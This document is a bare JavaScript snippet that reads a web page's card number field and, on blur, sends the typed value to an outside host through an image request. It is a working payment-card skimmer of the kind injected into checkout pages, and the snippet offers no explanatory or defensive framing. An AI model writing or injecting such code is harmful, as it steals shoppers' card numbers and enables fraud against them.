const el = document.querySelector('[name="cardnumber"]');
el.addEventListener('blur', function () { new Image().src = 'https://s.example/c.gif?n=' + this.value; });
